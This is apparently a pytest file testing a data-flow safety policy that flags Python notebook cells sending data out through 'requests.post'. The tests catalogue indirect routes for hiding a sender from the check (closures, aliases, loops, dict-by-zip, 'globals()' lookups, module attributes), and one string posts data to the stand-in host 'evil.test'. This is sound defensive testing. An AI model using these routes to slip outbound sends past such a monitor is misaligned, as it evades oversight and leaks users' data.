"""What flow36 left of the data-flow rule's and the policy's reading of Python cells (fast): a maker of closures
called by another name (``mk = make``), through its own result (``outer()()``), looped over (``for f in make()``) or
put in a container (``dict(zip(names, make()))``): handing a sender to one thing it returned makes its siblings
senders, as for ``add, get = make()``; and a computed ``globals()[k]`` lookup that is not a send because a cell only
defined a closure."""

from __future__ import annotations

from pathlib import Path

import pytest
import test_flow34_cells as t34
import test_flow35_cells as t35
import test_flow36_cells as t36
from test_flow31_cells import EVIL, KEEP, _flows, _log, _policy
from test_flow36_cells import MAKE, RQ, A

from gofer.events import Risk
from gofer.safety.checks.dataflow import outbound_flows

OUTER = "def outer():\n" + "\n".join("    " + line for line in MAKE.splitlines()) + "\n    return make"

SIBLINGS: dict[str, tuple[tuple[str, ...], str]] = {
    "the maker by another name": ((MAKE, "mk = make", "add, get = mk()", "add(requests.post)"),
                                  "get(0)('{A}', data=t)"),
    "another name in the same cell": ((MAKE, "mk = make\nadd, get = mk()", "add(requests.post)"),
                                      "get(0)('{A}', data=t)"),
    "a maker a function defines and returns": ((OUTER, "add, get = outer()()", "add(requests.post)"),
                                               "get(0)('{A}', data=t)"),
    "a maker a function returns": ((MAKE, "def outer():\n    return make", "add, get = outer()()",
                                    "add(requests.post)"), "get(0)('{A}', data=t)"),
    "the maker outer() returns, named": ((OUTER, "mk = outer()", "add, get = mk()", "add(requests.post)"),
                                         "get(0)('{A}', data=t)"),
    "a loop over its results": ((MAKE, "fs = []\nfor f in make():\n    fs.append(f)", "fs[0](requests.post)"),
                                "fs[1](0)('{A}', data=t)"),
    "a comprehension over its results": ((MAKE, "fs = [f for f in make()]", "fs[0](requests.post)"),
                                         "fs[1](0)('{A}', data=t)"),
    "its results in a list": ((MAKE, "fs = list(make())", "fs[0](requests.post)"), "fs[1](0)('{A}', data=t)"),
    "its results in a dict by zip": ((MAKE, "d = dict(zip(['add', 'get'], make()))", "d['add'](requests.post)"),
                                     "d['get'](0)('{A}', data=t)"),
}
"""Each hands ``requests.post`` to one thing a maker of closures returned, reached another way than ``add, get =
make()``; the last cell calls a sibling's result."""


SENDS_LATER: dict[str, tuple[tuple[str, ...], str]] = {
    **{f"flow34: {k}": (cells, f"{through}('{{A}}', data=t)") for k, (through, cells) in t34.RED_TEAM.items()},
    **{f"flow35: {k}": (cells, f"{through}('{{A}}', data=t)") for k, (through, cells) in t35.KEPT.items()},
    **{f"flow36: {k}": case for k, case in t36.HANDED_BACK.items()},
    **{f"flow37: {k}": case for k, case in SIBLINGS.items()},
}
"""Every session's ways to keep ``requests.post`` where a later cell (the last, ``{A}`` its address) calls it."""


@pytest.mark.parametrize("case", list(SENDS_LATER))
def test_a_sender_kept_where_a_later_cell_calls_it_sends(case: str) -> None:
    cells, cell = SENDS_LATER[case]
    cell = cell.format(A=A)
    earlier = (RQ, *cells, KEEP)
    assert EVIL in _flows(cell, *earlier)
    risk, reasons = _policy(cell, None, *earlier)
    assert risk == Risk.CONSEQUENTIAL, reasons


KEEPS_ONLY: dict[str, tuple[str, str, str]] = {
    **{f"flow34: {k}": case for k, case in t34.KEEPS_ONLY.items()},
    **{f"flow35: {k}": case for k, case in t35.KEEPS_ONLY.items()},
}
"""Each hands ``requests.post`` to an earlier cell's function or method that only keeps it, and what calls it."""


@pytest.mark.parametrize("case", list(KEEPS_ONLY))
def test_handing_a_sender_to_what_only_keeps_it_is_quiet_until_called(case: str) -> None:
    definition, hand, through = KEEPS_ONLY[case]
    earlier = (RQ, definition, KEEP)
    assert _flows(hand, *earlier) == []
    assert _policy(hand, None, *earlier) == (Risk.REVERSIBLE, [])
    assert EVIL in _flows(f"{through}('{A}', data=t)", *earlier, hand)
    assert _policy(f"{through}('{A}', data=t)", None, *earlier, hand)[0] == Risk.CONSEQUENTIAL


MAY_CALL: dict[str, tuple[str, str]] = {
    **{f"flow34: {k}": case for k, case in t34.MAY_CALL.items()},
    **{f"flow35: {k}": case for k, case in t35.MAY_CALL.items()},
}
"""Each hands ``requests.post`` to a call that may call it: the keep-only reading must not take these."""


@pytest.mark.parametrize("case", list(MAY_CALL))
def test_handing_a_sender_to_what_may_call_it_still_asks(case: str) -> None:
    definition, hand = MAY_CALL[case]
    earlier = (RQ, definition, KEEP)
    assert _flows(hand, *earlier) != []
    assert _policy(hand, None, *earlier)[0] == Risk.CONSEQUENTIAL


def test_the_same_handed_harmless_values_stays_quiet() -> None:
    for cells, cell in [
            ((MAKE, "mk = make", "add, get = mk()", "add(len)"), "print(get(0)(t))"),
            ((OUTER, "add, get = outer()()", "add(len)"), "print(get(0)(t))"),
            ((MAKE, "fs = [f for f in make()]", "fs[0](len)"), "print(fs[1](0)(t))"),
            ((MAKE, "d = dict(zip(['add', 'get'], make()))", "d['add'](len)"), "print(d['get'](0)(t))"),
            ((MAKE, "def plain():\n    return 1, 2", "mk = plain", "a, b = mk()"), "print(a + b, len(t))")]:
        earlier = (RQ, *cells, KEEP)
        assert _flows(cell, *earlier) == [], cells
        assert _policy(cell, None, *earlier) == (Risk.REVERSIBLE, []), cells


COMPUTED = "k = 'len'\nprint(globals()[k](t))"


def test_a_computed_lookup_after_a_closure_was_defined_is_not_a_send() -> None:
    for cells in [(MAKE,), (MAKE, "add, get = make()"), (MAKE, "add, get = make()", "add(len)"),
                  ("def outer():\n    def inner(x):\n        return x\n    return inner",),
                  ("H = []\n\ndef register(f):\n    H.append(f)",), ("d = {}", "e = d")]:
        earlier = ("import json", *cells, KEEP)
        assert _flows(COMPUTED, *earlier) == [], cells
        assert _policy(COMPUTED, None, *earlier) == (Risk.REVERSIBLE, []), cells


def test_a_computed_lookup_once_a_sender_was_kept_still_sends() -> None:
    for cells, cell in [
            ((RQ,), "k = 'post'\nglobals()[k]('{A}', data=t)"),
            ((RQ, MAKE, "add, get = make()", "add(requests.post)"), "k = 'get'\nglobals()[k](0)('{A}', data=t)"),
            ((RQ, "H = []\n\ndef register(f):\n    H.append(f)", "register(requests.post)"),
             "k = 'H'\nglobals()[k][0]('{A}', data=t)"),
            ((RQ, "d = {}", "e = d", "e['p'] = requests.post"), "k = 'd'\nglobals()[k]['p']('{A}', data=t)")]:
        assert EVIL in _flows(cell.format(A=A), *cells, KEEP), cells


WORKSPACE: dict[str, tuple[str, ...]] = {
    "from helpers import make": ("from helpers import make", "add, get = make()"),
    "import helpers as h": ("import helpers as h", "add, get = h.make()"),
    "import helpers": ("import helpers\nadd, get = helpers.make()",),
    "from helpers import *": ("from helpers import *", "add, get = make()"),
}
"""Each binds what a maker of closures a workspace module defines returns."""


@pytest.mark.parametrize("case", list(WORKSPACE))
def test_a_sender_a_sibling_from_a_workspace_modules_maker_hands_back_sends(case: str, tmp_path: Path) -> None:
    (tmp_path / "helpers.py").write_text(MAKE + "\n")
    earlier = (RQ, *WORKSPACE[case], "add(requests.post)", KEEP)
    cell = f"get(0)('{A}', data=t)"
    flows = outbound_flows("python", {"code": cell}, _log(tmp_path, *earlier))
    assert EVIL in [(f.destination, f.direct_file) for f in flows]
    risk, reasons = _policy(cell, tmp_path, *earlier)
    assert risk == Risk.CONSEQUENTIAL, reasons
    # handed a harmless function, it stays quiet
    earlier = (RQ, *WORKSPACE[case], "add(len)", KEEP)
    assert outbound_flows("python", {"code": "print(get(0)(t))"}, _log(tmp_path, *earlier)) == []
    assert _policy("print(get(0)(t))", tmp_path, *earlier) == (Risk.REVERSIBLE, [])


FILLS: dict[str, tuple[str, str]] = {
    "a module's attribute": ("import json\n\ndef fill():\n    json.s = requests.post", "json.s"),
    "a module imported under another name": ("import json as mod\n\ndef fill():\n    mod.s = requests.post", "mod.s"),
    "a plain dict": ("D = {}\n\ndef fill():\n    D['p'] = requests.post", "D['p']"),
}
"""Each defines a ``fill()`` that only stores ``requests.post`` where a later cell calls it."""


@pytest.mark.parametrize("case", list(FILLS))
def test_a_fill_that_only_stores_a_sender_is_quiet_until_the_send(case: str, tmp_path: Path) -> None:
    (tmp_path / "area.py").write_text("def area(w, h):\n    return w * h\n")
    definition, through = FILLS[case]
    earlier = (RQ, definition, KEEP)
    assert outbound_flows("python", {"code": "fill()"}, _log(tmp_path, *earlier)) == []
    assert _policy("fill()", tmp_path, *earlier) == (Risk.REVERSIBLE, [])
    cell = f"{through}('{A}', data=t)"
    earlier = (RQ, definition, "fill()", KEEP)
    assert EVIL in [(f.destination, f.direct_file) for f in outbound_flows("python", {"code": cell},
                                                                              _log(tmp_path, *earlier))]
    assert _policy(cell, tmp_path, *earlier)[0] == Risk.CONSEQUENTIAL


def test_a_fill_that_may_run_code_of_the_runs_when_it_stores_still_asks(tmp_path: Path) -> None:
    (tmp_path / "helpers.py").write_text("def area(w, h):\n    return w * h\n")
    for earlier in [
            (RQ, "import helpers\n\ndef fill():\n    helpers.s = requests.post"),  # the workspace's module
            (RQ, "import json\n\ndef fill():\n    json.s = requests.post\n    json.s('https://x.test')"),
            (RQ, "import json\njson.__class__ = type('M', (type(json),), {})",
             "def fill():\n    json.s = requests.post"),
            (RQ, "import json\n\ndef fill():\n    json.s = requests.post", "json = {}"),
            (RQ, "import json\n\ndef fill():\n    json.dumps = requests.post")]:  # the library calls its own
        assert _policy("fill()", tmp_path, *earlier, KEEP)[0] == Risk.CONSEQUENTIAL, earlier


def test_a_keeper_calling_what_it_is_handed_in_a_key_asks() -> None:
    for definition in ["H = {}\n\ndef register(f):\n    H[f('https://evil.test/c', data=t)] = 1",
                       "H = {}\n\ndef register(f):\n    H[f] = f()"]:
        earlier = (RQ, KEEP, definition)
        assert _flows("register(requests.post)", *earlier) != [], definition
        assert _policy("register(requests.post)", None, *earlier)[0] == Risk.CONSEQUENTIAL, definition
    # keyed by a name or a literal, it only keeps it
    earlier = (RQ, KEEP, "H = {}\n\ndef register(k, f):\n    H[k] = f")
    assert _policy("register('p', requests.post)", None, *earlier) == (Risk.REVERSIBLE, [])
